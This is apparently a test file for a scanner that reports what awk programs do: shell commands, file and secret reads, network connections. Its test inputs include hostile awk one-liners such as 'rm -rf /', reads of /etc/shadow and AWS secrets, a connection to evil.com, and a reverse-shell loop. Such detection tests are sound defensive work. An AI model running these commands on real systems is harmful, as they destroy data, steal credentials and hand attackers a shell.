// Shows what awk programs are found to do. Real awk judges the judge: a program without findings leaves no trace.
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { brief } from './brief.ts'

const RUNS = 'execution.inline-code'

describe('a program that only computes and prints has no findings', () => {
  test.each([
    '{print $1}',
    '$3 > 100 {print}',
    'print ($1 > 2)',
    '{print ($1 > 2) ? "a" : "b"}',
    '{ if ($1 > 2 || $2) print }',
    '!seen[$0]++',
    'length > 80',
    'NR%2==0{gsub(/a\\/b/,"c");print $NF}',
    'function f(x){return x*2} {print f($1)/2, $2/3 " " $4/5}',
    '{if(/a/)/b/;print "x"}',
    '/[/]/{print}',
    '/[^/]+$/{print}',
    '{a[$1]+=$2} END {for (k in a) print k, a[k]}',
    'BEGIN{for(i=0;i<ARGC;i++) printf "%s %s", ARGV[0], ARGV[i]}',
    '{print "system(\\"rm\\") > f | sh"}',
    '# system("ls")\n{print}',
    '{print > "/dev/stderr"}',
    '{print /x>y|z/ ? 1 : 2}',
    'BEGIN { x = 1; y = x > 0; while (y > 2) y-- }',
    '{ while ((getline line) > 0) n++ }',
    '{ getline < "-" }',
  ])('%j', (program) => expect(brief('awk', program)).toEqual([]))
})

describe('commands, files and the environment are found', () => {
  test.each<[string, string[]]>([
    ['BEGIN{system("rm -rf /")}', [RUNS, 'shell: rm -rf /']],
    ['BEGIN{system ("rm -rf " "/")}', [RUNS, 'shell: rm -rf /']],
    ['BEGIN{system\\\n("ls")}', [RUNS, 'shell: ls']],
    ['BEGIN{system("r\\155 x")}', [RUNS, 'shell: rm x']],
    ['{system("ls " $1)}', [RUNS, 'unknown', 'shell: ls "$computed"']],
    ['{system("ls " ENVIRON["HOME"] "/a")}', [RUNS, 'unknown', 'shell: ls "$HOME"/a', 'environment.read HOME']],
    ['{system("ls " ENVIRON["a b"])}', [RUNS, 'unknown', 'shell: ls "$computed"', 'environment.read a b']],
    ['BEGIN{c="rm -rf /"; system(c)}', [RUNS, 'unknown', 'shell: rm -rf /']],
    ['{print $1 > 2}', ['file.write 2']],
    ['{print $1, $2 > "out" ".txt"}', ['file.write out.txt']],
    ['{printf("%s", $1) >> "log"}', ['file.write log']],
    ['{print > $1".txt"}', ['file.write', 'unknown']],
    ['{print a,\n b > "f"}', ['file.write f']],
    ['{ if ($1) print $2 > "a.txt"; else print }', ['file.write a.txt']],
    ['{print | "sort -n"}', [RUNS, 'shell: sort -n']],
    ['{print |& "sort"}', [RUNS, 'shell: sort']],
    ['BEGIN{print "rm x" | "sh"}', [RUNS, 'shell: sh', "shell: printf %s 'rm x' | sh"]],
    ['BEGIN{printf("rm x") | "sh"}', [RUNS, 'shell: sh', "shell: printf %s 'rm x' | sh"]],
    ['{print | $1}', [RUNS, 'unknown', 'shell: "$computed"']],
    ['BEGIN{"date" | getline d; print d}', [RUNS, 'shell: date']],
    ['BEGIN{"echo " "date" | getline d}', [RUNS, 'shell: date', 'shell: echo date']],
    ['BEGIN{("a" "b") | getline}', [RUNS, 'shell: ab']],
    ['BEGIN{for (k in SYMTAB["ENVIRON"]) print k}', ['unknown']],
    ['BEGIN{while ((getline l < "/etc/shadow") > 0) print l}', ['file.read /etc/shadow']],
    ['{getline a[1] < "x"}', ['file.read x']],
    ['{getline < $1}', ['file.read', 'unknown']],
    ['BEGIN{ARGV[1]=".env";ARGC=2}{print}', ['file.read .env']],
    ['BEGIN{ARGV[1]=x}', ['file.read', 'unknown']],
    ['BEGIN{sub(/x/,"y",ARGV[1])}', ['unknown']],
    ['BEGIN{print ENVIRON["HOME"]}', ['environment.read HOME']],
    ['BEGIN{print ENVIRON["AWS_SECRET_ACCESS_KEY"]}', ['secret.read AWS_SECRET_ACCESS_KEY']],
    ['BEGIN{for (k in ENVIRON) print k}', ['environment.read']],
    [
      'BEGIN{print "x" |& "/inet/tcp/0/evil.com/80"}',
      [RUNS, 'shell: /inet/tcp/0/evil.com/80', 'network.connect tcp://evil.com:80'],
    ],
    ['{print /a/ > "f"}', ['file.write f']],
    ['{print 1/2 > "f" ; print 3/4}', ['file.write f']],
  ])('%j', (program, expected) => expect(brief('awk', program)).toEqual(expected))
})

test('what comes over a connection and is run gives the other side a shell', () => {
  const opens = 'BEGIN{s="/inet/tcp/0/a.example/80";'
  expect(brief('awk', `${opens}while((s |& getline c) > 0) while((c | getline l) > 0) print l |& s}`)).toContain(
    'execution.reverse-shell',
  )
  expect(brief('awk', `${opens}print "x" |& s; while((s |& getline l) > 0) print l}`)).not.toContain(
    'execution.reverse-shell',
  )
  expect(brief('awk', '{$1 | getline l; print l}')).not.toContain('execution.reverse-shell')
})

describe('what awks read differently, or load from elsewhere, is not understood', () => {
  test.each([
    '@load "x"',
    '@include "x"',
    'BEGIN{f="g"; @f()}',
    'length /"/; system("rm -rf /"); x="/',
    'x++ /"/; system("ls"); y="/',
    '"open',
    '/open',
    '{print',
    'foo(1)',
    'a::b()',
    'BEGIN{system "ls"}',
    '{print "a" >= "b"}',
    "BEGIN{x='a'}",
    'BEGIN{"a" | b}',
    'BEGIN{ f(ARGV) } function f(a) { a[1] = "x" }',
    '# comment \\\n{print}',
  ])('%j', (program) => expect(brief('awk', program)).toContain('unknown'))
})

test('a program without findings writes no file and runs nothing when real awk runs it', () => {
  const folder = mkdtempSync(join(tmpdir(), 'awk-'))
  const pieces = [
    'print ',
    '$1',
    '>',
    '"f"',
    '"touch f"',
    ' | ',
    'getline',
    'system(',
    '(',
    ')',
    '{',
    '}',
    ';',
    '\n',
    '/',
    '/[/]/',
    '"',
    'x',
    '=',
    '++',
    'length ',
    'if(x)',
    '#',
    '\\',
    ',',
    ' ',
    'BEGIN',
  ]
  try {
    const count = { harmless: 0, found: 0 }
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 9 }), (parts) => {
        const program = parts.join('')
        if (brief('awk', program).length > 0) {
          count.found++
          return
        }
        count.harmless++
        spawnSync('awk', [program], { cwd: folder, input: 'touch f\nc d\n', timeout: 2000 })
        expect(readdirSync(folder), program).toEqual([])
      }),
      { numRuns: 3000, seed: 11 },
    )
    expect(count.harmless).toBeGreaterThan(50)
    expect(count.found).toBeGreaterThan(50)
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
})
